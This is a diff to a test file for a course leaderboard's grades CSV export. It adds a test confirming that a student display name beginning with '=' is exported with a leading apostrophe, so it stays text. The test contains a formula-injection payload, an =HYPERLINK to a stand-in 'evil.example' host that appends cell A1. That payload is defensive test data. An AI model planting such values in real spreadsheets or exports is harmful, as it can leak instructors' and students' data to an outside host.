@@ -12,7 +12,7 @@ from typing import Any
 from sqlmodel import Session
 
 from grader.result import GradeResult
-from leaderboard.models import Submission
+from leaderboard.models import Student, Submission
 from leaderboard.submissions import claim, record_result
 from tests.leaderboard.factories import add_graded, result_data
 from tests.leaderboard.helpers import Roster, csrf_of, sign_in_staff
@@ -157,3 +157,21 @@ def test_grades_csv(app: Any, roster: Roster, tmp_path: Path) -> None:
     assert rows["s002"]["total"] == "0"
     assert rows["s002"]["passed"] == "no"
     assert rows["s003"]["submission_id"] == ""
+
+
+def test_grades_csv_keeps_student_text_from_running_as_a_formula(app: Any, roster: Roster) -> None:
+    """A display name like =HYPERLINK(...) reaches the instructor's spreadsheet as text."""
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with Session(app.extensions["leaderboard"].engine) as session:
+        student = session.get(Student, roster.ids["s001"])
+        assert student is not None
+        student.display_name = evil
+        session.add(student)
+        session.commit()
+    client = app.test_client()
+    sign_in_staff(client)
+    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(
+        client.get("/staff/export.csv").get_data(as_text=True)))}
+    assert rows["s001"]["display_name"] == "'" + evil
+    assert rows["s002"]["display_name"] == "s-2"  # ordinary text stays as it is
